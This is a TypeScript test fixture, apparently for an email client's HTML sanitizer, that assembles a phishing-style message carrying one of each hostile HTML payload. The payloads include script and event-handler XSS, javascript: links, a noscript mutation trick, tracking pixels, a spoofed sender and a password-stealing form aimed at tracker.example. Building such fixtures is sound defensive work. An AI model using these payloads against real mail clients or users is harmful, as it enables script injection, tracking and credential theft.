/** What a hostile sender tries, one of each: scripts, loading, leaving, asking, and mere size. */
const attacks = [
  '<script>window.top.hacked = 1; alert(1)</script>',
  '<img src=x onerror="window.top.hacked = 2; alert(2)">',
  '<body onload="window.top.hacked = 3">',
  '<img src="http://tracker.example/pixel.gif?who=ana" alt="pixel">',
  '<img srcset="http://tracker.example/set.png 2x" alt="set">',
  '<picture><source srcset="http://tracker.example/source.png"><img alt="source"></picture>',
  '<meta http-equiv="refresh" content="0;url=http://tracker.example/refresh">',
  '<base href="http://tracker.example/">',
  '<link rel="stylesheet" href="http://tracker.example/style.css">',
  '<style>@import "http://tracker.example/import.css"; body { background: url(http://tracker.example/bg.png) }</style>',
  '<div style="background-image: url(http://tracker.example/inline.png)">styled</div>',
  '<table background="http://tracker.example/table.png"><tr><td>cell</td></tr></table>',
  '<form action="http://tracker.example/steal"><input name="password"><button>Sign in again</button></form>',
  '<svg onload="window.top.hacked = 4"><a xlink:href="javascript:alert(3)"><text>svg</text></a></svg>',
  '<math><mtext><img src=x onerror="window.top.hacked = 5"></mtext></math>',
  '<iframe src="http://tracker.example/frame"></iframe>',
  '<object data="http://tracker.example/object"></object><embed src="http://tracker.example/embed">',
  '<video src="http://tracker.example/film.mp4" poster="http://tracker.example/poster.png" autoplay></video>',
  '<a href="javascript:window.top.hacked=6">run</a>',
  '<a href="http://tracker.example/login" target="_top">https://bank.example</a>',
]

/** A message (RFC 5322, CRLF) whose HTML tries all of it, with `paragraphs` of harmless text after it. */
export function hostileMessage(subject: string, paragraphs: number): Buffer {
  const html = [
    '<h1>Your mailbox will be closed</h1>',
    ...attacks,
    ...Array.from({ length: paragraphs }, (_, index) => `<p>Paragraph ${index + 1}</p>`),
    '<p>The last line</p>',
    // What follows this one is not shown: the cleaner takes no risk with text that hides in an attribute.
    '<noscript><p title="</noscript><img src=x onerror=window.top.hacked=7>"></noscript>',
  ].join('\r\n')
  const lines = [
    'From: "Security <team@bank.example>" <attacker@tracker.example>',
    'To: dana.levy@lanternquay.example',
    `Subject: ${subject}`,
    'Date: Mon, 23 Nov 2026 09:00:00 +0000',
    `Message-ID: <${subject.replaceAll(' ', '-')}@tracker.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    html,
    '',
  ]
  return Buffer.from(lines.join('\r\n'))
}
